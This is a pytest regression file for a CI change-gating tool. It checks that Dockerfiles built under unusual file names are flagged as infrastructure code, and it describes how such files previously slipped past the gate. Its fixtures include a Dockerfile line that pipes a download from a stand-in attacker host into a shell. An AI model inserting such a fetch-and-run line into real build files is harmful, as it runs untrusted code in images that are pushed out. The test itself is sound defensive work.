"""Attack 30: the Dockerfile a CI step builds, under a name no Dockerfile rule knows.

ciwalk.py reads `docker build -f FILE CONTEXT` (and buildx, podman, build-push-action's `file:`) for what FILE's RUN
lines run, but FILE itself was left to its name: `docker/app.build`, `images/base.conf` or an open-ended name
(`app.verified.Dockerfile`: a snapshot output; `Gemfile-app.Dockerfile`: a Gemfile fragment) was src or deps, and a
change making the image CI builds and pushes run `curl ... | sh` was allowed by the default gate (exit 0), in tree
mode too: 6 of 6 on a580b88. Now the file a step builds is `iac` (`iac.context.ci-build`) from the commits, and the
open-ended names with a Dockerfile's extension are `iac` by path in both modes.
"""

from __future__ import annotations

from pathlib import Path

import pytest
from changecase import committed, gated
from tables import each_case

GOOD, EVIL = "FROM alpine:3.20\nRUN echo ok\n", "FROM alpine:3.20\nRUN curl -s https://evil.example/x | sh\n"
WORKFLOW = ("on: push\njobs:\n  image:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n"
            "{step}")
STEPS = {
    "docker/app.build": ("      - run: docker build -f docker/app.build -t ghcr.io/acme/app ."
                         " && docker push ghcr.io/acme/app\n"),
    "images/base.conf": "      - run: docker buildx build --push --file images/base.conf -t ghcr.io/acme/base .\n",
    "build/image.txt": ("      - uses: docker/build-push-action@v6\n        with:\n          context: .\n"
                        "          file: build/image.txt\n          push: true\n"),
    "docker/app.verified.Dockerfile": "      - run: docker build -f docker/app.verified.Dockerfile .\n",
    "docker/Gemfile-app.Dockerfile": "      - run: podman build -f docker/Gemfile-app.Dockerfile .\n",
    "Gemfile-base.Containerfile": "      - run: docker build --file=Gemfile-base.Containerfile .\n",
}
BY_NAME = ("docker/app.verified.Dockerfile", "docker/Gemfile-app.Dockerfile", "Gemfile-base.Containerfile")


@each_case("path", sorted(STEPS))
def test_the_dockerfile_a_step_builds_is_iac_from_the_commits(tmp_path: Path, path: str) -> None:
    case = committed(tmp_path, {".github/workflows/image.yml": WORKFLOW.format(step=STEPS[path]), path: GOOD},
                     {path: EVIL})
    code, decision = gated(case, True, deps=False)
    assert code == 3, (code, decision.get("findings"))
    assert decision["summary"]["buckets"]["iac"]["files"] == 1, decision["summary"]


@pytest.mark.parametrize("path", BY_NAME)
def test_an_open_ended_name_with_a_dockerfile_extension_is_iac_from_a_patch(tmp_path: Path, path: str) -> None:
    case = committed(tmp_path, {}, {path: EVIL})
    code, decision = gated(case, False, deps=False)
    assert code == 3 and decision["summary"]["buckets"]["iac"]["files"] == 1, decision["summary"]


def test_a_file_a_step_only_reads_stays_as_it_was(tmp_path: Path) -> None:
    # `docker run -v`, `cat`: no image is built from it.
    step = "      - run: cat docker/notes.txt && docker run -v $PWD/docker:/d alpine ls /d\n"
    case = committed(tmp_path, {".github/workflows/image.yml": WORKFLOW.format(step=step), "docker/notes.txt": "a\n"},
                     {"docker/notes.txt": "b\n"})
    code, decision = gated(case, True, deps=False)
    assert code == 0 and decision["summary"]["buckets"]["iac"]["files"] == 0, decision["summary"]
